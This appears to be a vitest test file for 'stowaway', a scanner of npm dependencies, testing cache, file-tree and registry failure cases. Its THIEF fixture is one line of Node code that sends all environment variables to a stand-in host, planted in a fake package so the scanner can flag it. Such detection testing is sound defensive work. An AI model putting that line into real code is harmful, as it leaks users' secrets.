/** What can go wrong around a scan, made to go wrong: each costs what it touches, and is said. */
import { type ExecFileException, execFile, execFileSync, spawn } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  rmSync,
  truncateSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { openCache, trimCache } from '../src/read/cache.js';
import { cleanUp, emptyFolder, plant } from './fixtures/read/plant.js';
import { packed } from './fixtures/read/tgz.js';

cleanUp();
vi.setConfig({ testTimeout: 60_000 });

const bin = fileURLToPath(new URL('../dist/src/bin.js', import.meta.url));
const THIEF = `require('https').request('https://collect.invalid').end(JSON.stringify(process.env));`;

interface Outcome {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
}

const envWith = (more: Readonly<Record<string, string>>): NodeJS.ProcessEnv => ({
  ...process.env,
  NO_COLOR: '1',
  ...more,
});

const command = (args: readonly string[], more: Readonly<Record<string, string>> = {}): Promise<Outcome> =>
  new Promise(resolve => {
    execFile(
      process.execPath,
      [bin, ...args],
      // In the project that is scanned: what is its own is not scanned then.
      { env: envWith(more), ...(args[0] !== undefined && existsSync(args[0]) && { cwd: args[0] }) },
      (error: ExecFileException | null, stdout, stderr) =>
        resolve({ code: error ? Number(error.code) : 0, stdout, stderr }),
    );
  });

const project = (files: Readonly<Record<string, string | object>> = {}): string =>
  plant({
    'package.json': { name: 'app' },
    'node_modules/thief/package.json': { name: 'thief', version: '1.0.0' },
    'node_modules/thief/index.js': THIEF,
    'node_modules/good/package.json': { name: 'good', version: '1.0.0' },
    'node_modules/good/index.js': 'module.exports = 1;',
    ...files,
  });

const packagesOf = ({ stdout }: Outcome) =>
  (JSON.parse(stdout).packages as { package: { name: string }; verdict: string }[]).map(
    ({ package: { name }, verdict }) => `${name} ${verdict}`,
  );

describe('the cache', () => {
  test('whose place is a file costs nothing but time', async () => {
    const dir = project({ 'no-folder': '' });
    const json = ['--format', 'json', '--quiet'];
    const anew = await command([dir, '--no-cache', ...json]);
    expect((await command([dir, ...json], { STOWAWAY_CACHE: join(dir, 'no-folder') })).stdout).toBe(anew.stdout);
  });

  // Only root can make a disk small.
  test.skipIf(process.getuid?.() !== 0 || process.platform !== 'linux')(
    'on a full disk costs nothing but time',
    async () => {
      const dir = project();
      const disk = join(dir, 'disk');
      mkdirSync(disk);
      try {
        execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=16k', 'tmpfs', disk], { stdio: 'ignore' });
      } catch {
        return; // a container may forbid it
      }
      try {
        const json = ['--format', 'json', '--quiet'];
        const outcome = await command([dir, ...json], { STOWAWAY_CACHE: join(disk, 'cache') });
        expect(outcome).toMatchObject({ code: 1, stderr: '' });
        expect(packagesOf(outcome)).toEqual(['thief malicious', 'good clean']);
      } finally {
        execFileSync('umount', [disk]);
      }
    },
  );

  test('is looked through again after a clock was set back', async () => {
    const folder = emptyFolder();
    await openCache(folder)?.set('a', 'text');
    writeFileSync(join(folder, 'trimmed'), '');
    const future = new Date(Date.now() + 400 * 24 * 60 * 60 * 1000);
    utimesSync(join(folder, 'trimmed'), future, future);
    await trimCache(folder, 0);
    expect(await openCache(folder)?.get('a')).toBeUndefined();
  });

  test('serves two scans at once', async () => {
    const dir = project();
    const more = { STOWAWAY_CACHE: join(dir, 'cache') };
    const [one, two] = await Promise.all([1, 2].map(() => command([dir, '--format', 'json', '--quiet'], more)));
    expect(one).toEqual(two);
    expect(one?.code).toBe(1);
  });

  test('is sound after a scan was killed', async () => {
    const dir = project();
    const more = { STOWAWAY_CACHE: join(dir, 'cache') };
    const anew = await command([dir, '--no-cache', '--format', 'json', '--quiet']);
    const scan = spawn(process.execPath, [bin, dir], { env: envWith(more), stdio: 'ignore' });
    while (!existsSync(join(dir, 'cache')) && scan.exitCode === null) await new Promise(done => setTimeout(done, 5));
    scan.kill('SIGKILL');
    expect((await command([dir, '--format', 'json', '--quiet'], more)).stdout).toBe(anew.stdout);
  });
});

describe('a tree', () => {
  test('in which a file cannot be read costs that file', async () => {
    const dir = project({ 'node_modules/shut/package.json': { name: 'shut' }, 'node_modules/shut/index.js': '1' });
    // Not even root can read what is no file any more when it is opened.
    chmodSync(join(dir, 'node_modules/shut/index.js'), 0);
    const outcome = await command([dir, '--no-cache', '--format', 'json', '--quiet']);
    expect(outcome.code).toBe(1);
    expect(packagesOf(outcome)[0]).toBe('thief malicious');
  });

  test('that changes while it is scanned costs what is gone', async () => {
    const files = Object.fromEntries(
      Array.from({ length: 300 }, (_, at) => [`node_modules/p${at}/index.js`, `module.exports = ${at};`]),
    );
    const dir = project(files);
    const scan = command([dir, '--no-cache', '--format', 'json', '--quiet']);
    for (let at = 0; at < 300; at += 2) {
      rmSync(join(dir, `node_modules/p${at}`), { recursive: true, force: true });
      await new Promise(done => setTimeout(done, 1));
    }
    const outcome = await scan;
    expect(outcome.code).toBe(1);
    expect(packagesOf(outcome)[0]).toBe('thief malicious');
  });

  test('with a file of 200 MB says that it was not read, and finds what is beside it', async () => {
    const dir = project({ 'node_modules/large/package.json': { name: 'large' }, 'node_modules/large/index.js': '' });
    truncateSync(join(dir, 'node_modules/large/index.js'), 200 * 1024 * 1024);
    const outcome = await command([dir, '--no-cache', '--fail-on', 'suspicious']);
    expect(outcome.code).toBe(1);
    expect(outcome.stdout).toMatch(/^Scanned 3 packages, 1 of them not wholly analysed \(larger/);
    expect(outcome.stdout).toContain('malicious');
  });

  test('that is 500 levels deep ends, and is said not to be scanned to its end', async () => {
    const dir = project();
    const script =
      'i=0; while [ $i -lt 500 ]; do mkdir -p node_modules/a; echo "{}" > node_modules/a/package.json; cd node_modules/a; i=$((i+1)); done';
    execFileSync('sh', ['-c', script], { cwd: join(dir, 'node_modules/good') });
    const outcome = await command([dir, '--no-cache', '--format', 'json']);
    execFileSync('rm', ['-rf', join(dir, 'node_modules/good')]);
    expect(outcome.code).toBe(1);
    expect(packagesOf(outcome)[0]).toBe('thief malicious');
    expect(outcome.stderr).toMatch(/nested deeper than|its path is too long/);
  });
});

describe('a registry', () => {
  const servers: Server[] = [];
  afterEach(() => {
    for (const server of servers.splice(0)) {
      server.closeAllConnections();
      server.close();
    }
  });

  async function served(answer: RequestListener): Promise<Readonly<Record<string, string>>> {
    const server = createServer(answer);
    servers.push(server);
    await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    return { npm_config_registry: `http://127.0.0.1:${port}/`, npm_config_cache: emptyFolder() };
  }

  /** What is known of `thing@1.0.0`, whose digest may be a lie. */
  function packument(host: string | undefined, integrity?: string): string {
    const dist = { tarball: `http://${host}/thing/-/thing-1.0.0.tgz`, ...(integrity && { integrity }) };
    const versions = { '1.0.0': { name: 'thing', version: '1.0.0', dist } };
    return JSON.stringify({ name: 'thing', 'dist-tags': { latest: '1.0.0' }, versions });
  }

  const registry = (archive: Uint8Array, integrity?: string): Promise<Readonly<Record<string, string>>> =>
    served((request, response) => {
      response.end(request.url?.endsWith('.tgz') ? archive : packument(request.headers.host, integrity));
    });

  const honest = packed({ 'package.json': '{"name":"thing","version":"1.0.0"}', 'index.js': '1' });

  test('that lies about a digest is not believed', async () => {
    const integrity = `sha512-${Buffer.alloc(64).toString('base64')}`;
    const outcome = await command(['npm:thing@1.0.0'], await registry(honest, integrity));
    expect(outcome).toMatchObject({
      code: 2,
      stdout: '',
      stderr: expect.stringMatching(/does not match its checksum/),
    });
  });

  test('that sends another package is found out', async () => {
    const other = packed({ 'package.json': '{"name":"other","version":"9.9.9"}', 'index.js': '1' });
    const outcome = await command(['npm:thing@1.0.0', '--fail-on', 'suspicious'], await registry(other));
    expect(outcome.code).toBe(1);
    expect(outcome.stdout).toMatch(/not wholly analysed \(is other@9\.9\.9, not thing@1\.0\.0/);
  });

  test.each([
    ['before it says anything', () => undefined],
    ['within an archive', () => honest.subarray(0, 100)],
  ])('that stalls %s is given up', async (_when, begun) => {
    const stalling = await served((request, response) => {
      if (begun() === undefined) return;
      if (request.url?.endsWith('.tgz')) response.write(begun());
      else response.end(packument(request.headers.host));
    });
    const impatient = { npm_config_fetch_timeout: '300', npm_config_fetch_retries: '0' };
    const outcome = await command(['npm:thing@1.0.0'], { ...stalling, ...impatient });
    expect(outcome).toMatchObject({
      code: 2,
      stdout: '',
      stderr: expect.stringMatching(/^stowaway: npm:thing@1\.0\.0: the registry could not be reached [^\n]+\n$/),
    });
  });

  test('that is not there ends the scan with one line', async () => {
    const there = await registry(honest);
    for (const server of servers) server.close();
    const outcome = await command(['npm:thing@1.0.0'], { ...there, npm_config_fetch_retries: '0' });
    expect(outcome).toMatchObject({ code: 2, stdout: '', stderr: expect.stringMatching(/^stowaway: [^\n]+\n$/) });
  });
});

test('nothing is left behind in the temporary folder', () => {
  expect(readdirSync(emptyFolder())).toEqual([]);
});
